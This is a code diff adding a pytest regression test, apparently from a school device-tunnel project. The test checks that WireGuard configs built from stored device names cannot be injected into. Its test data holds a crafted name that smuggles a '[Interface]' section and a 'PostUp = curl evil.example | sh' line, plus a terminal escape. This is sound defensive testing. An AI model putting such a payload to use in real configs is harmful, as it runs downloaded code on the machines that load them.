@@ -14,8 +14,9 @@ from pathlib import Path
 
 import pytest
 
-from agent.tunnel.config import new_private_key, public_key
+from agent.tunnel.config import TunnelConfig, new_private_key, public_key
 from proxy_addons.cli import main as cli
+from proxy_addons.cli.tunnel import wg_quick
 from proxy_addons.devices import enrolment, tunnels
 from proxy_addons.ops.wireguard import interface
 from proxy_addons.workflow import audit
@@ -66,6 +67,30 @@ def test_without_devices_tunnel_the_command_says_tunnels_are_off(
     policy = copy_policy(tmp_path)
     code = cli.main(["tunnel", "up", "--policy", str(policy), "--var", str(tmp_path)])
     assert code == 1 and "no devices.tunnel section" in capsys.readouterr().err
+
+
+def test_endpoints_need_a_name_and_a_devices_name_adds_no_config_lines(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Red team (issue 17): where pupils are is never shown unaudited; a name stored before
+    reports were refused control characters can't add a PostUp line to `issue`'s config."""
+    policy = copy_policy(tmp_path)
+    text = policy.read_text().split("\ndevices:\n")[0]
+    policy.write_text(f"{text}\ndevices:\n  tunnel:\n    pool: {POOL}\n    endpoint: gw:51820\n")
+    argv = ["tunnel", "status", "--endpoints", "--policy", str(policy), "--var", str(tmp_path)]
+    assert cli.main(argv) == 1 and "give --as NAME" in capsys.readouterr().err
+    assert cli.main([*argv, "--as", ""]) == 1
+    config = TunnelConfig("10.123.0.2", public_key(new_private_key()), "gw:51820", "10.123.0.1",
+                          ("0.0.0.0/0",))  # fmt: skip
+    binding = tunnels.Binding(
+        "dev-1", "pc)\n[Interface]\nPostUp = curl evil.example | sh\n#\x1b[2K", "k", "10.123.0.2",
+        NOW, "it\nsupport",
+    )  # fmt: skip
+    text = wg_quick(config, new_private_key(), binding)
+    lines = text.splitlines()
+    assert [x for x in lines if x.startswith("[")] == ["[Interface]", "[Peer]"]
+    assert len(lines) == 11 and lines[0].startswith("# ") and "\x1b" not in text
+    assert not any(x.startswith("PostUp") for x in lines)
 
 
 @NEEDS_WIREGUARD
